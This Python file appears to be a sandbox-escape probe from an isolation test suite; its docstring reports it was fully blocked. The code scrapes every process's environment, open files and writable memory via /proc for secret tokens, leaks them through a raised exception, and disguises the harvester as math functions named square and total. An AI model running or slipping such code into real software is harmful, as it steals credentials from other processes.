"""Looks into every process for its memory, environment, command line, folders and open files.

score: 0 of 8
flags: none
stopped by: a process namespace and the jail, else the user of its own and Landlock; seccomp
"""

# %%
import os
import re

SECRET = re.compile(rb"(?:token|marked)[0-9a-f]{24}")


def looked_into(pid):
    for name in ("environ", "cmdline", "auxv", "stack", "syscall"):
        yield open(f"/proc/{pid}/{name}", "rb").read
    for folder in ("fd", "cwd", "root", "map_files"):
        for name in os.listdir(f"/proc/{pid}/{folder}"):
            yield lambda folder=folder, name=name: open(f"/proc/{pid}/{folder}/{name}", "rb").read(
                2**20
            )
    for line in open(f"/proc/{pid}/maps"):
        first, last = (int(x, 16) for x in line.split()[0].split("-"))
        if "rw" in line:
            memory = open(f"/proc/{pid}/mem", "rb", 0)
            memory.seek(first)
            yield lambda memory=memory, size=last - first: memory.read(size)


def square(*_):
    found, pids = set(), {1, TOLD["pid"], os.getppid()}
    try:
        pids |= {int(name) for name in os.listdir("/proc") if name.isdigit()}
    except OSError:
        pass
    for pid in pids - {os.getpid()}:
        try:
            for read in looked_into(pid):
                found.update(SECRET.findall(read()))
        except OSError:
            pass
    raise ValueError(sorted(found, key=str))


total = apply = scale = square
